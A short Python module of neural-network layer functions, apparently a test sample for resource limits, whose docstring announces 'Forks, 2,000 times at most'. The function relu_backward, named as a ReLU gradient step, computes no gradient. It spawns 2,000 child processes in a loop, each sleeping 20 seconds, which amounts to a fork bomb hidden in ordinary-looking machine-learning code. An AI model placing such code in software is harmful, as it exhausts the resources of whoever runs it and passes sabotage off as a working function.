"""Forks, 2,000 times at most."""

import os
import time

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
